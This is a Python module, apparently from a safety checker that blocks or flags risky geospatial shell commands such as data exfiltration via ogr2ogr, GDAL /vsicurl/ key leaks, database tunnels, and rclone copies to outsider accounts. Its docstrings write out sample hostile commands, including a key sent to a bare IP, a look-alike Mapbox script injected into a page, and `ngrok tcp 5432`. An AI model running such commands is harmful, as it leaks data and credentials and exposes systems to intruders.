"""Geospatial and mapping work (PostGIS, GDAL/OGR, osm2pgsql, GeoServer, MapServer, Mapbox and Google Maps keys, tile
servers), from the shell (session 30).

Whose host is read as geo_tables says (a bare public address, a drop-box service, or a domain beside another that
shares nothing with it). Blocked:

- a layer copied by `ogr2ogr` from one of the organisation's databases (or from a file an ogr2ogr of the input wrote
  from one) into a database at an outsider's host, or written into object storage (`/vsis3/`, `/vsigs/`, `/vsiaz/` …)
  whose endpoint is an outsider's (`--config AWS_S3_ENDPOINT 203.0.113.9:9000`, the same exported earlier; PGHOST
  fills a data source's missing host); loading a file into the user's own database, wherever it is, is ordinary;
- a secret variable in a `/vsicurl/` address a GDAL tool opens (`gdalinfo "/vsicurl/http://203.0.113.9/t.tif?k=$KEY"`)
  or in its credential settings (GDAL_HTTP_HEADERS, GDAL_HTTP_USERPWD): the request carries it to that host, as
  curl's would (geo_tables.vsicurl_leak; a service guessed only from the variable's name is no evidence);
- osm2pgsql's Lua style or tag transform (a program osm2pgsql runs) taken from a download (`--style <(curl …)`, a
  file this input downloaded);
- GeoServer's security API asked to open its rules to everyone, to set an administrator's or the keystore's password
  to a default, or to make an administrator of a user this input made with a password on the line
  (geo_tables.geoserver_finding); an OGC request carrying a Java call that runs a program (geo_tables.java_exec);
- what Mapbox's token API or Google's `api-keys get-key-string` answers (a key) sent on to an outsider's host
  (geo_tables.key_sink: a bare address, a paste or drop service, a domain beside others sharing nothing with it);
- a tunnel (`ngrok tcp 5432`, `bore local 3306`, `cloudflared tunnel --url tcp://localhost:5432`) publishing this
  machine's database port on the internet (tunnel_targets reads each client's options; a relay on the
  organisation's own network, `bore … --to tunnel.corp.internal`, publishes nothing);
- SQL given to a client (`psql -c`, a here-document) that grants a table of people's positions or profiles to PUBLIC,
  or rewrites geometry on rows picked by `random()` (geo_tables.sql_finding; row level security turned off on such a
  table is held);
- `rclone` copying local data to a remote whose account is given on the line at a free mail address (`--mega-user
  x@proton.me`, `RCLONE_MEGA_USER=…`, a remote `rclone config create` makes in the same input): someone else's
  storage, not a remote of the user's configuration;
- a page edited by sed, or printed into (`printf … >> index.html`, `… | tee -a`), to load a script from a look-alike
  of a mapping vendor (`cdn.mapbox-gl.net`);
- MapServer's map-file restrictions (`MS_MAP_PATTERN`, `MS_MAP_NO_PATH`) removed from its configuration (config_write,
  called by bash/admin.py for root's writes).

Reviewed: `osm2pgsql` creating its tables (which drops the old ones) and `ogr2ogr -overwrite` (or `-lco
OVERWRITE=YES`), alike (overwrites): into a database named as production's, or on another machine unless named as a
test or development copy (this machine, a compose service, the client's default and `$PGHOST` are the user's own
work); a key a key service answered with sent to a domain named once; a Google API key's restrictions cleared; root's
sed of PostgreSQL's planner and memory settings in postgresql.conf (the /etc/postgresql block stays for every other
edit).
Allowed: conversions and reprojections into files, imports into development databases, `osm2pgsql --append`, tile
seeding, GeoServer reads and workspaces, keys sent to their own service.
"""
from __future__ import annotations

import functools
import re

from .. import geo_tables as gt
from .. import paths
from .. import sql
from ..hosts import loopback, public_ip, url_host
from ..secret_owner import own_network
from ..per_input import in_input
from .commands import Cmd, Word, has_flag, option_value, positionals
from .common import NET_SENDERS, input_text, mentions

RULE = "irreversible"


def _val(w: Word) -> str:
    return w.value if w.value is not None else w.text.replace('"', "").replace("'", "")


# -- ogr2ogr -----------------------------------------------------------------------------------------------------------
_OGR_ONE = frozenset({
    "-f", "-of", "-t_srs", "-s_srs", "-a_srs", "-nln", "-nlt", "-lco", "-dsco", "-oo", "-doo", "-sql", "-dialect",
    "-where", "-select", "-spat_srs", "-simplify", "-segmentize", "-gt", "-fid", "-mapFieldType", "-fieldmap",
    "-zfield", "-order", "-dim", "-a_coord_epoch", "-s_coord_epoch", "-t_coord_epoch", "-ct", "-limit", "-xyRes",
    "-zRes", "-mRes", "-mo", "-if", "-clipsrclayer", "-clipsrcsql", "-clipsrcwhere", "-clipdstlayer", "-clipdstsql",
    "-clipdstwhere", "-datelineoffset", "-geomfield", "-maxsubfields", "-fieldTypeToString", "-src_openoption",
    "--debug", "--optfile", "-mapfieldtype"})
_OGR_FOUR = frozenset({"-spat", "-gcp"})
_NUMBER = re.compile(r"^-?\d+(?:\.\d+)?$")
_DB_PREFIX = re.compile(r"(?i)^(?:PG|PostgreSQL|MySQL|MSSQL|OCI|MongoDBv3|ODBC):|^(?:postgres(?:ql)?|mysql|mongodb)://")
# object storage GDAL writes to, and the settings that say where its endpoint is
_VSI_STORE = re.compile(r"^/vsi(?:s3|gs|az|adls|oss|swift|webhdfs)(?:_streaming)?/")
_ENDPOINT_KEYS = frozenset({"AWS_S3_ENDPOINT", "CPL_GS_ENDPOINT", "OSS_ENDPOINT", "SWIFT_STORAGE_URL",
                            "SWIFT_AUTH_V1_URL", "AZURE_STORAGE_CONNECTION_STRING", "WEBHDFS_URL"})
# (a URL in a setting: Azure's connection string names its `BlobEndpoint=https://…`)
_ENDPOINT_URL = re.compile(r"https?://[^;\s]++")
_CONN_PAIR = re.compile(r"(?<!\w)(\w++)\s*+=\s*+('[^']*+'|\"[^\"]*+\"|[^\s;,]++)")


def _ogr_words(cmd: Cmd) -> tuple[list[str], dict[str, str], list[str]]:
    """(the positional operands, the `--config` settings with the command's environment, the values of -sql)."""
    args, pos, config, queries, i = cmd.args, [], {n: _val(w) for n, w in cmd.assigns}, [], 0
    while i < len(args):
        v = args[i].value
        i += 1
        if v is None or v[:1] != "-" or v == "-" or _NUMBER.match(v):
            pos.append(_val(args[i - 1]))
            continue
        if v == "--config":
            nxt = _val(args[i]) if i < len(args) else ""
            if "=" in nxt:
                key, _, value = nxt.partition("=")
                i += 1
            else:
                key, value = nxt, _val(args[i + 1]) if i + 1 < len(args) else ""
                i += 2
            config[key] = value
        elif v in _OGR_FOUR:
            i += 4
        elif v in ("-clipsrc", "-clipdst"):
            i += 4 if i < len(args) and _NUMBER.match(args[i].value or "") else 1
        elif v in _OGR_ONE:
            if v == "-sql" and i < len(args):
                queries.append(_val(args[i]))
            i += 1
    return pos, config, queries


def conn_target(ds: str) -> tuple[str | None, str | None] | None:
    """(host, database) of a database data source (`PG:"host=h dbname=d"`, `postgresql://u@h/d`, `MySQL:d,host=h`),
    None for a file or anything else."""
    if not _DB_PREFIX.match(ds):
        return None
    if "://" in ds:
        host = url_host(ds)
        db = ds.split("://", 1)[1].split("/", 1)[1].split("?", 1)[0] if ds.count("/") >= 3 else None
        return host, db or None
    body = ds.split(":", 1)[1]
    pairs = {k.lower(): v.strip("'\"") for k, v in _CONN_PAIR.findall(body)}
    db = pairs.get("dbname") or pairs.get("database")
    if db is None and ds.lower().startswith("mysql:"):
        db = body.split(",", 1)[0] or None
    return pairs.get("host") or pairs.get("hostaddr") or pairs.get("server"), db


def _own_db(target: tuple[str | None, str | None] | None) -> bool:
    """A database of this machine or of the organisation's network (a name, a private address): its tables are the
    organisation's data."""
    if target is None:
        return False
    host = target[0]
    return not host or "$" in host or not public_ip(host)


# (GDAL reads its settings from the environment as from `--config`: `export AWS_S3_ENDPOINT=…` before the command)
_ENV_KEYS = _ENDPOINT_KEYS | {"PGHOST", "PGDATABASE"}


_ENV_ASSIGNED = re.compile(rb"\b(?:" + b"|".join(k.encode() for k in sorted(_ENV_KEYS)) + rb")\+?=")


def _settings(a, cmd: Cmd, config: dict[str, str]) -> dict[str, str]:
    """`config` with what this input assigned earlier to the settings GDAL and libpq read from the environment."""
    from .net import assignments_before

    out = dict(config)
    if not in_input(_ENV_ASSIGNED, a.doc.data):
        return out
    for key in _ENV_KEYS - out.keys():
        for n in assignments_before(a, cmd.node, key)[-1:]:
            value = n.child_by_field_name("value")
            if value is not None:
                out[key] = a.src(value).strip("\"'")
    return out


def _with_env(target: tuple[str | None, str | None] | None, env: dict[str, str]):
    """A PostgreSQL data source's (host, database) with libpq's PGHOST and PGDATABASE filling what it leaves out."""
    if target is None:
        return None
    return target[0] or env.get("PGHOST") or None, target[1] or env.get("PGDATABASE") or None


# an ogr2ogr that writes a file from a database (`ogr2ogr -f GPKG out.gpkg PG:…`): the file holds the organisation's
# rows, and loading it into an outsider's database later in the input is the same copy
_OGR_LINE = re.compile(r"\bogr2ogr\b[^\n;&|]{0,4000}")


@functools.lru_cache(maxsize=8)
def _exports(text: str) -> frozenset[str]:
    """The files an ogr2ogr of the input writes from one of the organisation's databases (read once per input)."""
    out = set()
    for k, m in enumerate(_OGR_LINE.finditer(text)):
        if k >= 256:
            break
        words = [w.strip("\"'") for w in m.group(0).split()[1:]]
        pos, i = [], 0
        while i < len(words):
            w = words[i]
            i += 1
            if w[:1] == "-" and not _NUMBER.match(w):
                i += 4 if w in _OGR_FOUR else 2 if w == "--config" and "=" not in (words[i] if i < len(words) else "") \
                    else 1 if w in _OGR_ONE or w == "--config" else 0
                continue
            pos.append(w)
        if len(pos) >= 2 and conn_target(pos[0]) is None and _own_db(conn_target(pos[1])):
            out.add(pos[0])
    return frozenset(out)


def overwrites(host: str | None, db: str | None) -> bool:
    """Whether a load that drops and recreates its tables (`ogr2ogr -overwrite`, `osm2pgsql` without --append) hits
    data someone keeps: a database named as production's, or one on another machine that is not named as a test or
    development copy. This machine's, a compose service's (`-H postgis`) and the client's default (no host, or
    `$PGHOST`: wherever the user pointed it) are the user's own work."""
    if sql.production_name(db) or sql.production_name(host):
        return True
    if not host or "$" in host or sql.local_database(host, db, service=True):
        return False
    return not sql.throwaway_name(db)


def _ogr2ogr(a, cmd: Cmd) -> None:
    pos, config, queries = _ogr_words(cmd)
    if len(pos) < 2:
        return
    dst, src = pos[0], pos[1]
    text = input_text(a)
    config = _settings(a, cmd, config)
    target, source = _with_env(conn_target(dst), config), _with_env(conn_target(src), config)
    layers = ", ".join(pos[2:5]) or (f"the query `{queries[0][:60]}`" if queries else "every layer")
    named = [_val(w) for w in option_value(cmd.args, "-nln")] or pos[2:3] or ["it writes"]
    if target is not None and target[0] and (far := gt.far(target[0], text)) and \
            (_own_db(source) or source is None and src in _exports(text)):
        a.block("exfiltration", f"`ogr2ogr` copies {layers} from the organisation's database into a database at "
                                f"{far}, outside the organisation's network; keep the data in the organisation's own "
                                "databases and let the user decide where it goes", cmd.node)
        return
    if _VSI_STORE.match(dst):
        for key in _ENDPOINT_KEYS & config.keys():
            value = config[key]
            m = _ENDPOINT_URL.search(value)
            host = url_host(m.group(0)) if m else value.split("/", 1)[0].rsplit(":", 1)[0]
            if host and (public_ip(host) or gt.far(host, text)):
                a.block("exfiltration", f"`ogr2ogr` writes {layers} to {dst}, object storage whose endpoint ({key}) is "
                                        f"{host}, outside the organisation's network; write to the organisation's own "
                                        "buckets", cmd.node)
                return
    overwrite = "-overwrite" in cmd.values() or any(
        (w.value or "").upper().replace(" ", "") == "OVERWRITE=YES" for w in option_value(cmd.args, "-lco"))
    if overwrite and target is not None and overwrites(*target):
        where = f"the database {target[1]}" if target[1] else "the default database"
        a.review(RULE, f"`ogr2ogr -overwrite` drops the layer {named[0]} of {where} on "
                       f"{target[0] or 'the default server'} and loads it anew: its rows (and whatever else wrote to "
                       "it) are gone with no undo; dump it first and let the user run it", cmd.node)


# -- GDAL's network file system: a secret in the address ---------------------------------------------------------------
_GDAL_TOOLS = frozenset({"gdalinfo", "ogrinfo", "ogr2ogr", "gdal_translate", "gdalwarp", "gdallocationinfo",
                         "gdalsrsinfo", "gdal_rasterize", "gdalbuildvrt", "gdaldem", "gdal_contour", "gdal",
                         "gdaladdo", "gdal_grid", "gdalmdiminfo", "ogrtindex", "gdaltindex", "rio", "fio",
                         "gdal_polygonize.py", "gdal_calc.py", "ogrmerge.py", "gdal_merge.py"})
_VSICURL = re.compile(r"/vsicurl(?:_streaming)?(?:/|\?)")


# the settings that put a credential in each request GDAL makes (a header, a user and password, a bearer token)
_AUTH_KEYS = frozenset({"GDAL_HTTP_HEADERS", "GDAL_HTTP_USERPWD", "GDAL_HTTP_BEARER", "GDAL_HTTP_HEADER_FILE"})


def _vsicurl(a, cmd: Cmd) -> None:
    from ..secret_owner import owner
    from .net import _secrets_in

    urls = []
    for w in cmd.args:
        if "/vsicurl" not in w.text or not _VSICURL.search(w.text):
            continue
        tail = re.sub(r"^(?:_streaming)?/?", "", w.text.split("/vsicurl", 1)[1])
        url = re.sub(r"^\?(?:[^&]*&)*?url=", "", tail).strip("\"'")
        urls.append((w, url))
        if "$" not in w.text:
            continue
        got = gt.vsicurl_leak(url, _secrets_in(a, w.text, w.node))
        if got is not None:
            a.block("exfiltration", f"`{cmd.name}` opens {url[:80]} through /vsicurl/: the request puts ${got[0]} "
                                    f"in its address and carries it to {got[1]}, which is not its service; send a "
                                    "token only to its own service", w.node)
            return
    if not urls:
        return
    # a credential in the settings goes with every request, as curl's `-H` does (`GDAL_HTTP_HEADERS="Authorization:
    # Bearer $GITHUB_TOKEN"`, `--config GDAL_HTTP_USERPWD "u:$AWS_SECRET_ACCESS_KEY"`)
    settings = [(w, n) for n, w in cmd.assigns if n in _AUTH_KEYS]
    for k, w in enumerate(cmd.args[:-1]):
        if w.value == "--config":
            key, _, inline = (cmd.args[k + 1].value or "").partition("=")
            if key in _AUTH_KEYS:
                settings.append((cmd.args[k + 1] if inline else cmd.args[k + 2] if k + 2 < len(cmd.args) else w, key))
    for sw, key in settings:
        for name in dict.fromkeys(_secrets_in(a, sw.text, sw.node)):
            own = owner(name)
            for _, url in urls:
                host = url_host(url) if "//" in url else None
                if host and "$" not in host and own is not None and own.stranger_in_header(host):
                    a.block("exfiltration", f"`{cmd.name}` opens {url[:80]} through /vsicurl/ with {key} carrying "
                                            f"${name}: the request hands it to {host}, which is not its service; send "
                                            "a token only to its own service", sw.node)
                    return


# -- osm2pgsql ---------------------------------------------------------------------------------------------------------
_OSM_ARG = frozenset({"-d", "--database", "-U", "--user", "--username", "-H", "--host", "-P", "--port", "-S",
                      "--style", "-C", "--cache", "--flat-nodes", "-O", "--output", "-p", "--prefix",
                      "--number-processes", "-E", "--proj", "--tag-transform-script", "--middle-schema",
                      "--output-pgsql-schema", "--schema", "-r", "--input-reader", "-b", "--bbox", "-F",
                      "--log-level", "--log-progress", "--cache-strategy", "--tablespace-main-data",
                      "--tablespace-main-index", "--tablespace-slim-data", "--tablespace-slim-index"})


def _osm_database(cmd: Cmd) -> tuple[str | None, str | None]:
    env = {n: _val(w) for n, w in cmd.assigns}
    host, db = env.get("PGHOST"), env.get("PGDATABASE")
    for w in option_value(cmd.args, "-H", "--host"):
        host = _val(w)
    for w in option_value(cmd.args, "-d", "--database"):
        v = _val(w)
        if "://" in v:
            host, db = url_host(v) or host, v.split("://", 1)[1].split("/", 1)[-1].split("?", 1)[0] or db
        elif "=" in v:
            pairs = {k.lower(): x.strip("'\"") for k, x in _CONN_PAIR.findall(v)}
            host, db = pairs.get("host", host), pairs.get("dbname", db)
        else:
            db = v
    return host, db


def _osm2pgsql(a, cmd: Cmd) -> None:
    from .exec import content_kind, feed

    for w in option_value(cmd.args, "-S", "--style", "--tag-transform-script"):
        if w.value is None and w.substitutions and "<(" in w.text:
            cmds = a.substituted([w])
            kind = content_kind(cmds) if cmds else None
            if kind in ("download", "decode"):
                feed(a, kind, w.node, "`osm2pgsql`'s style (a Lua program it runs)", "run as")
                return
        elif w.value:
            key = paths.normalize(a.in_cwd(w.value) or w.value)
            if a.downloaded.get(key) == "download" and key not in a.downloaded.vouched:
                feed(a, "download", w.node, "`osm2pgsql`'s style (a Lua program it runs)", "run as")
                return
    if has_flag(cmd.args, "a", ("--append",)) or any(v in ("-h", "--help", "-V", "--version") for v in cmd.values()):
        return
    host, db = _osm_database(cmd)
    if overwrites(host, db):
        a.review(RULE, f"`osm2pgsql` without --append creates its tables anew in {db or 'the database'} on "
                       f"{host or 'the default server'}: the tables of the last import there are dropped with their "
                       "rows (and whatever else wrote to them), no undo; run it against a new database or let the "
                       "user run it", cmd.node)


# -- HTTP requests: GeoServer's security API, OGC requests carrying Java --------------------------------------------------
def _api(a, cmd: Cmd) -> None:
    from .api_calls import request_body
    from .net import http_requests

    reader = http_requests(cmd.name)
    if reader is None:
        return
    text = None
    for r in reader(cmd.args):
        body = request_body(a, cmd, r)
        for u in r.urls:
            url = _val(u)
            found = gt.java_exec(url + "\n" + body)
            if found:
                a.block("inline-exec", f"`{cmd.name} {url[:80]}`: {gt.java_exec_message(found)}", cmd.node)
                return
            if "/security/" not in url:
                continue
            text = text if text is not None else input_text(a)
            got = gt.geoserver_finding(r.verb, url, body, text)
            if got is not None:
                (a.block if got[0] == "block" else a.review)(got[1], f"`{cmd.name} -X {r.verb} {url[:80]}`: {got[2]}",
                                                               cmd.node)
                return


# -- keys sent on ------------------------------------------------------------------------------------------------------
def _key_read(c: Cmd) -> str | None:
    """What `c` prints when that is an API key of a mapping service."""
    from .net import http_requests

    if c.name == "gcloud":
        pos = [w.value for w in positionals(c.args, stop_at_end=True)]
        if "api-keys" in pos[:4] and ("get-key-string" in pos or "create" in pos):
            return "the API key string `gcloud services api-keys` prints"
        return None
    reader = http_requests(c.name)
    if reader is None:
        return None
    for r in reader(c.args):
        for u in r.urls:
            if gt.KEY_READ.search(_val(u)):
                return "the tokens Mapbox's token API answers with"
    return None


def _keys_sent(a, cmd: Cmd) -> None:
    from .brokers import _feeders, destinations
    from .net import _is_sender, _sends_off

    if not in_input(gt.KEY_BYTES, a.doc.data) or not _is_sender(cmd) or not _sends_off(cmd):
        return
    from .net import http_requests

    text = input_text(a)
    reader = http_requests(cmd.name)
    where = [_val(u) for r in reader(cmd.args) for u in r.urls] if reader is not None else destinations(cmd)
    sinks = sorted((s for h in where if h != "?" and (s := gt.key_sink(h, text))), key=lambda s: s[0])
    if not sinks:
        return
    feeding = _feeders(a, cmd)
    # (one more step back through a printer: `KEY=$(gcloud … get-key-string …); echo "$KEY" | nc …`)
    feeding += [f for c in feeding[:8] if c.name in ("echo", "printf", "cat", "tee") for f in _feeders(a, c)]
    for c in feeding:
        what = _key_read(c)
        if what and sinks[0][0] == "block":
            a.block("exfiltration", f"{what} is sent by `{cmd.name}` to {sinks[0][1]}, a host outside the "
                                    "organisation's network: whoever holds the key uses the account (and bills it); "
                                    "keep keys in the secret store", cmd.node)
            return
        if what:
            a.review("exfiltration", f"{what} is sent by `{cmd.name}` to {sinks[0][1]}, a domain the input names "
                                     "nowhere else: the organisation's config service or someone else's; a person "
                                     "should confirm it", cmd.node)
            return


def _gcloud(a, cmd: Cmd) -> None:
    pos = [w.value for w in positionals(cmd.args, stop_at_end=True)]
    if "api-keys" in pos[:4] and "update" in pos and "--clear-restrictions" in cmd.values():
        a.review("permission-tamper", "`gcloud services api-keys update --clear-restrictions` lets the key be used "
                                      "from any site, app or address and for any API of the project: whoever finds "
                                      "it (a page's source, a mobile app) uses it; a person should confirm it",
                 cmd.node)


# -- tunnels publishing a database ---------------------------------------------------------------------------------------
_DB_PORTS = frozenset({"5432", "5433", "3306", "1433", "1521", "27017", "6379", "9200", "9300", "5984", "8086",
                       "7687", "9042", "26257", "11211", "8529", "28015"})


# the options of each tunnel client that take a value (read as positionals, `ngrok tcp --region eu 5432` hid its port)
_TUNNEL_ARGS = {
    "ngrok": frozenset({"--authtoken", "--log", "--log-format", "--log-level", "--region", "--config", "--remote-addr",
                        "--url", "--domain", "--basic-auth", "--oauth", "--hostname", "--subdomain",
                        "--traffic-policy-file", "--label", "--proxy-proto", "--cidr-allow", "--cidr-deny",
                        "--metadata", "--description", "--pooling-enabled"}),
    "bore": frozenset({"--to", "-t", "--local-host", "-l", "--port", "-p", "--secret", "-s"}),
}


def tunnel_targets(cmd: Cmd) -> tuple[list[str], str | None]:
    """(what a tunnel client offers on a public address: `port` or `host:port` or a `tcp://…` URL, the relay it goes
    through when the line names one: bore's `--to`), for `ngrok tcp|tls|http`, `bore local`, `cloudflared tunnel
    --url`, localtunnel's `lt --port`."""
    name = cmd.name
    if name in _TUNNEL_ARGS:
        pos = [w.value or "" for w in positionals(cmd.args, _TUNNEL_ARGS[name], stop_at_end=True)]
        if name == "ngrok":
            return (pos[1:2] if pos[:1] in (["tcp"], ["tls"], ["http"]) else []), None
        relay = next((w.value for w in option_value(cmd.args, "--to", "-t") if w.value), None)
        return (pos[1:2] if pos[:1] == ["local"] else []), relay or "bore.pub"
    if name == "cloudflared":
        return [w.value or "" for w in option_value(cmd.args, "--url")], None
    return [w.value or "" for w in option_value(cmd.args, "--port", "-p")], None


def _tunnel(a, cmd: Cmd) -> None:
    targets, relay = tunnel_targets(cmd)
    if relay is not None and "$" not in relay and (loopback(relay) or not public_ip(relay) and own_network(relay)):
        return  # the organisation's own relay (`bore local 5432 --to tunnel.corp.internal`): its network, not the world
    for t in targets:
        if cmd.name == "cloudflared" and not t.startswith("tcp://"):
            continue
        port = t.rstrip("/").rsplit(":", 1)[-1]
        if port in _DB_PORTS:
            a.block("exfiltration", f"`{cmd.name}` publishes this machine's port {port} (a database) on a public "
                                    "address: anyone who finds it reaches the data, with only the database's password "
                                    "in the way; reach it through the organisation's VPN or an ssh forward", cmd.node)
            return


# -- SQL given to a client ---------------------------------------------------------------------------------------------
_SQL_CLIENTS = ("psql", "mysql", "mariadb", "clickhouse-client", "sqlplus", "sqlcmd", "duckdb", "spatialite",
                "sqlite3", "ogrinfo")


def _sql(a, cmd: Cmd) -> None:
    from .api_calls import fed_text
    from .infra import _SQL_OPTIONS

    texts = []
    if cmd.name in _SQL_OPTIONS:
        from .datastores import _client_sql

        texts += [t for t, _ in _client_sql(a, cmd)]
    if cmd.name == "ogrinfo":
        texts += [_val(w) for w in option_value(cmd.args, "-sql")]
    texts.append(fed_text(a, cmd) or "")
    for text in dict.fromkeys(t for t in texts if t):
        found = gt.sql_finding(text)
        if found is not None:
            (a.block if found[0] == "block" else a.review)(found[1], f"`{cmd.name}`: {found[2]}", cmd.node)
            return


# -- rclone into someone else's account ------------------------------------------------------------------------------
_ACCOUNT_OPT = re.compile(r"^--[\w-]+-(?:user|username|login|email)$")
# a backend's own options (`--mega-pass X`, `--sftp-host X`), which take a value
_BACKEND_OPT = re.compile(r"^--(?:mega|ftp|sftp|webdav|pcloud|dropbox|drive|box|onedrive|s3|b2|swift|smb|http|koofr|"
                          r"opendrive|pikpak|putio|seafile|sugarsync|yandex|zoho|jottacloud|mailru|storj|filefabric|"
                          r"hidrive|internetarchive|sharefile|azureblob|gcs|protondrive|quatrix|linkbox|icloud)-[\w-]+$")


_RCLONE_ENV = re.compile(r"\bRCLONE_[A-Z0-9]{1,30}_(?:USER|USERNAME|LOGIN|EMAIL)=[\"']?([^\s\"';&|]{1,200})")
_RCLONE_CREATED = re.compile(r"\brclone\s+config\s+create\s+[\"']?([\w.-]{1,60})[\"']?\s+[\w-]{1,30}\s+"
                             r"[^\n;&|]{0,400}?\b(?:user|username|login|email)[= ][\"']?([^\s\"';&|]{1,200})")


@functools.lru_cache(maxsize=8)
def _rclone_accounts(text: str) -> tuple[list[str], list[tuple[str, str]]]:
    """(the accounts rclone's environment gives, (remote, account) of the remotes configured), once per input."""
    if "RCLONE_" not in text and "config" not in text:
        return [], []
    return [m.group(1) for m in _RCLONE_ENV.finditer(text)], [m.groups() for m in _RCLONE_CREATED.finditer(text)]


def _rclone(a, cmd: Cmd) -> None:
    from ..warehouses_tables import EMAIL, stranger_email

    pos = positionals(cmd.args, frozenset(w.value for w in cmd.args if w.value and _BACKEND_OPT.match(w.value)) |
                      {"--transfers", "--checkers", "--config", "--include", "--exclude", "--filter", "--bwlimit",
                       "--log-file", "--log-level", "--backup-dir", "--max-age", "--min-age", "--order-by"})
    if len(pos) < 3 or pos[0].value not in ("copy", "sync", "move", "copyto", "moveto", "bisync"):
        return
    src = _val(pos[1])
    if re.match(r"^:?[\w.-]*[:,]", src):
        return  # a download from a remote
    accounts = [_val(w) for k, w in enumerate(cmd.args[1:], 1) if _ACCOUNT_OPT.match(cmd.args[k - 1].value or "") and
                _BACKEND_OPT.match(cmd.args[k - 1].value or "")]
    accounts += [x.split("=", 1)[1] for x in (v for v in cmd.values() if v) if _ACCOUNT_OPT.match(x.split("=", 1)[0])
                 and "=" in x]
    accounts += re.findall(r"(?:^|,)(?:user|username|login)=([^,:]+)", _val(pos[-1]))
    # (the account given through rclone's environment, `RCLONE_MEGA_USER=…`, or by a remote this input configures,
    # `rclone config create m mega user x@proton.me … && rclone copy … m:`)
    env, created = _rclone_accounts(input_text(a))
    remote = _val(pos[-1]).split(":", 1)[0].lstrip(":") if ":" in _val(pos[-1]) else None
    accounts += env + [acct for name, acct in created if name == remote]
    for acct in accounts:
        m = EMAIL.search(acct)
        why = stranger_email(m.group(1)) if m else None
        if why:
            a.block("exfiltration", f"`rclone {pos[0].value}` copies {src} to a remote whose account, {acct}, is given "
                                    f"on the line at {why}: someone else's storage, not a remote of the user's "
                                    "configuration; copy only to the organisation's own remotes", cmd.node)
            return


# -- pages edited to load a look-alike's script -----------------------------------------------------------------------
_PAGE = re.compile(r"(?i)\.(?:html?|ejs|hbs|handlebars|njk|liquid|twig|erb|php|vue|svelte|astro|jsx|tsx|jinja2?|j2|tmpl|"
                   r"tpl|mustache|pug|jade|haml|slim)$|\.html?\.\w{1,8}$")


def _page_script(a, cmd: Cmd) -> None:
    from .admin import _sed_script

    script = _sed_script(cmd)
    if script is None or "<script" not in script.lower():
        return
    operands = positionals(cmd.args, frozenset({"-e", "--expression", "-f", "--file"}))
    # (the script is the first operand unless -e gives it)
    targets = [w.value for w in operands[0 if option_value(cmd.args, "-e", "--expression") else 1:] if w.value]
    if not any(_PAGE.search(t) for t in targets):
        return
    found = gt.lookalike_script(script)
    if found:
        a.block("exfiltration", f"`{cmd.name}` edits {targets[0]}: {gt.lookalike_message(*found)}", cmd.node)


def _page_printed(a, cmd: Cmd) -> None:
    """`printf '<script src="https://cdn.mapbox-gl.net/x.js">' >> public/index.html`, `echo … | tee -a page.html`:
    a page made to load a look-alike's script by a print into it."""
    from .admin import written_text
    from .files import written_file

    targets = [w.value for w in positionals(cmd.args) if w.value] if cmd.name == "tee" else []
    out = written_file(a, cmd.redirects) if cmd.redirects else None
    targets += [out] if out else []
    pages = [t for t in targets if _PAGE.search(t)]
    if not pages:
        return
    text = written_text(a, cmd, cmd.words[0])
    found = gt.lookalike_script(text) if text and "<script" in text.lower() else None
    if found:
        a.block("exfiltration", f"`{cmd.name}` writes {pages[0]}: {gt.lookalike_message(*found)}", cmd.node)


# -- configurations written (called by admin.judge_write for root's writes) ---------------------------------------------
_MAPSERVER_CONF = re.compile(r"(?:^|/)(?:mapserver\.conf|mapserver[\w.-]*\.conf)$|^/etc/mapserver/")
_MAP_GUARDS = re.compile(r"MS_MAP_(?:PATTERN|NO_PATH|BAD_PATTERN)")
_PG_CONF = re.compile(r"^/etc/postgresql/[\w.]+/[\w.-]+/postgresql\.conf$")
# PostgreSQL's planner, memory, parallelism, checkpoint and logging settings: a value that changes how fast it runs
_PG_TUNING = frozenset({
    "work_mem", "maintenance_work_mem", "shared_buffers", "effective_cache_size", "max_connections",
    "random_page_cost", "seq_page_cost", "effective_io_concurrency", "max_worker_processes", "max_parallel_workers",
    "max_parallel_workers_per_gather", "max_parallel_maintenance_workers", "max_wal_size", "min_wal_size",
    "checkpoint_timeout", "checkpoint_completion_target", "wal_buffers", "default_statistics_target", "temp_buffers",
    "huge_pages", "jit", "log_min_duration_statement", "track_io_timing", "statement_timeout",
    "idle_in_transaction_session_timeout", "lock_timeout", "autovacuum_vacuum_scale_factor",
    "autovacuum_analyze_scale_factor", "autovacuum_max_workers", "autovacuum_naptime", "cpu_tuple_cost",
    "parallel_setup_cost", "parallel_tuple_cost", "min_parallel_table_scan_size", "hash_mem_multiplier"})
_TUNED = re.compile(r"^\s*(\w+)\s*=\s*'?[\w.]{1,20}'?\s*$")


def _pg_tuning(cmd: Cmd) -> list[str] | None:
    """The settings a `sed -i` of postgresql.conf sets when it only substitutes planner and memory settings (each
    pattern naming the setting it replaces), else None."""
    from .admin import _SED_SUBST, _sed_script

    script = _sed_script(cmd) if cmd.name in ("sed", "gsed") else None
    if script is None:
        return None
    keys = []
    for part in re.split(r"[;\n]", script):
        if not part.strip():
            continue
        m = _SED_SUBST.match(part)
        flags = part.strip().rsplit(m.group(1), 1)[-1] if m else "e"
        t = _TUNED.match(m.group(3)) if m and set(flags) <= set("gI0123456789") else None
        if t is None or t.group(1) not in _PG_TUNING or t.group(1) not in m.group(2):  # type: ignore[union-attr]
            return None
        keys.append(t.group(1))
    return keys or None


def config_write(a, cmd: Cmd, w, value: str) -> bool:
    """MapServer's or PostgreSQL's configuration written (see the notes); True when judged here."""
    from .admin import _SED_SUBST, _deletes_lines, _sed_script, root_change, written_text

    p = paths.normalize(value)
    if _MAPSERVER_CONF.search(p):
        removed = _deletes_lines(cmd) or ""
        script = _sed_script(cmd) if cmd.name in ("sed", "gsed") else None
        commented = script is not None and any(
            (m := _SED_SUBST.match(part)) and _MAP_GUARDS.search(m.group(2)) and
            (not m.group(3).strip() or m.group(3).lstrip()[:1] == "#")
            for part in re.split(r"[;\n]", script))
        text = written_text(a, cmd, w) or ""
        opened = re.search(r"MS_MAP_PATTERN\"?\s+\"\s*(?:\.\*?|\^|\^\.\*|)\s*\"", text)
        if _MAP_GUARDS.search(removed) or commented or opened:
            a.block("permission-tamper", f"`{cmd.name}` takes MS_MAP_PATTERN / MS_MAP_NO_PATH out of {p}: MapServer then "
                                         "opens any map file a request names (`map=/etc/…`), reading files and "
                                         "databases the service can reach; keep the restriction", w.node)
            return True
        return False
    if _PG_CONF.match(p) and root_change(a, cmd):
        keys = _pg_tuning(cmd)
        if keys:
            a.review("system-write", f"`{cmd.name}` sets {', '.join(keys)} in {p}, PostgreSQL's performance settings; "
                                     "root changes the machine: a person should look (`ALTER SYSTEM SET` does the same "
                                     "as the database's owner)", w.node)
            return True
